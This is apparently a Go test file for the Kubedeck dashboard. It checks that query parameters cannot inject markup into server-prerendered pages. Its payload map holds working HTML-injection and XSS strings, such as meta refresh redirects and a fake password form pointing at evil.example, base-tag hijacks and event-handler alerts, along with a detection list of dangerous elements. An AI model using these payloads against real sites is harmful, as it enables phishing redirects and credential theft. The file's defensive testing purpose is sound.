//go:build !wasm

package main

import (
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"golang.org/x/net/html"

	"github.com/kubedeck/kubedeck/kube"
	"github.com/kubedeck/kubedeck/server"
)

// reflectPayloads are values a link to the real dashboard could carry in a
// query parameter to inject markup into the page the server prerenders:
// each tries to end the attribute or element it lands in and add its own.
var reflectPayloads = map[string]string{
	"meta refresh":          `"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	"fake sign-in form":     `'><form action=https://evil.example/login><input name=password type=password></form>`,
	"base after the title":  `</title><base href=//evil.example/>`,
	"event attributes":      `" autofocus onfocus="alert(1)" x="`,
	"single-quoted":         `' autofocus onfocus='alert(1)' x='`,
	"newline and tab":       "\"\n\t><meta\nhttp-equiv=refresh\ncontent=\"0;url=//evil.example/\">",
	"backslash-quote":       `\"><base href=//evil.example/>`,
	"entity-encoded quote":  `&quot;><base href=//evil.example/>`,
	"percent-encoded twice": `%22%3E%3Cmeta%20http-equiv%3Drefresh%20content%3D0%3Burl%3D//evil.example/%3E`,
	"unquoted attribute":    `x onmouseover=alert(1) formaction=//evil.example/`,
	"closing the select":    `</option></select><iframe srcdoc="<p>x"></iframe>`,
	"namespace-shaped":      `demo"><meta http-equiv=refresh content=0;url=//evil.example/>`,
}

// reflectParams are every query parameter a page reads (see objectsView),
// and a few it does not, in case a page ever starts to.
var reflectParams = []string{"kind", "namespace", "q", "sort", "order", "page", "limit", "name", "in", "next", "redirect"}

// benignQuery sets every parameter of reflectParams to a value a real link
// carries.
const benignQuery = "kind=pods&namespace=demo&q=web&sort=name&order=desc&page=2&limit=50&name=web-1&in=team-a&next=%2F&redirect=%2F"

// TestPrerenderReflectsNoMarkup asks the real server for every page with
// each payload in each query parameter, and checks that the prerendered
// HTML holds no element and no attribute that the same page does not hold
// without a query or with a real link's: no payload became markup.
func TestPrerenderReflectsNoMarkup(t *testing.T) {
	registerRoutes()
	for _, base := range []string{"", "/v2"} {
		t.Run("base="+base, func(t *testing.T) {
			origin := startPrerenderServer(t, base)
			for _, page := range shellPages() {
				t.Run(strings.TrimPrefix(page.path, "/"), func(t *testing.T) {
					path := origin + base + page.path
					want := markupShapes(t, prerendered(t, path), prerendered(t, path+"?"+benignQuery))
					for _, param := range reflectParams {
						for name, payload := range reflectPayloads {
							t.Run(param+"/"+name, func(t *testing.T) {
								doc := prerendered(t, path+"?"+url.Values{param: {payload}}.Encode())
								if bad := injected(doc, want); len(bad) > 0 {
									t.Errorf("?%s=%q put markup in the page: %s", param, payload, strings.Join(bad, ", "))
								}
							})
						}
					}
				})
			}
		})
	}
}

// startPrerenderServer runs Kubedeck's server (dev mode, no cluster) with a
// stand-in app.wasm, so the pages are prerendered rather than refused, and
// returns its origin.
func startPrerenderServer(t *testing.T, base string) string {
	t.Helper()
	web := fstest.MapFS{"app.wasm": {Data: []byte("\x00asm")}, "kubedeck.css": {Data: []byte("body{}")}}
	wi, err := server.InspectWeb(web)
	if err != nil {
		t.Fatal(err)
	}
	ui, err := buildAppHandler(appHandlerConfig{basePath: base, version: "reflect-1", web: wi})
	if err != nil {
		t.Fatal(err)
	}
	cfg := server.Config{BasePath: base, Version: "reflect-1", Auth: server.AuthConfig{
		Mode: server.AuthDev, DevUser: kube.User{Name: "ada", Groups: []string{"developers"}},
	}}
	srv, err := server.New(cfg, server.Deps{Log: slog.New(slog.DiscardHandler), UI: ui, Web: web})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)
	return ts.URL
}

// prerendered gets a page and parses it.
func prerendered(t *testing.T, u string) *html.Node {
	t.Helper()
	res, err := http.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	if res.StatusCode != http.StatusOK || !strings.Contains(string(body), `class="kd-main"`) {
		t.Fatalf("GET %s: status %d, want a prerendered page:\n%s", u, res.StatusCode, body)
	}
	doc, err := html.Parse(strings.NewReader(string(body)))
	if err != nil {
		t.Fatalf("parse %s: %v", u, err)
	}
	return doc
}

// markupShapes are the shapes of the documents' elements: "tag" for each
// element and "tag[attr]" for each of its attributes, as a browser parses
// them.
func markupShapes(t *testing.T, docs ...*html.Node) map[string]bool {
	t.Helper()
	shapes := map[string]bool{}
	for _, doc := range docs {
		walkElements(doc, func(n *html.Node) {
			for _, s := range shapesOf(n) {
				shapes[s] = true
			}
		})
	}
	if !shapes["main[id]"] {
		t.Fatalf("the page without a query has no main element: %v", shapes)
	}
	return shapes
}

// injected lists the element shapes of doc that allowed lacks, and every
// element that no page of Kubedeck ever has: these came from the request.
func injected(doc *html.Node, allowed map[string]bool) []string {
	var bad []string
	walkElements(doc, func(n *html.Node) {
		for _, s := range shapesOf(n) {
			if !allowed[s] {
				bad = append(bad, s)
			}
		}
		switch n.Data {
		case "base", "iframe", "object", "embed":
			bad = append(bad, n.Data)
		case "meta":
			if hasAttr(n, "http-equiv") {
				bad = append(bad, "meta[http-equiv]")
			}
		case "form":
			if hasAttr(n, "action") {
				bad = append(bad, "form[action]")
			}
		}
	})
	slices.Sort(bad)
	return slices.Compact(bad)
}

func shapesOf(n *html.Node) []string {
	out := []string{n.Data}
	for _, a := range n.Attr {
		out = append(out, n.Data+"["+a.Key+"]")
	}
	return out
}

func hasAttr(n *html.Node, key string) bool {
	return slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == key })
}

func walkElements(n *html.Node, f func(*html.Node)) {
	if n.Type == html.ElementNode {
		f(n)
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		walkElements(c, f)
	}
}
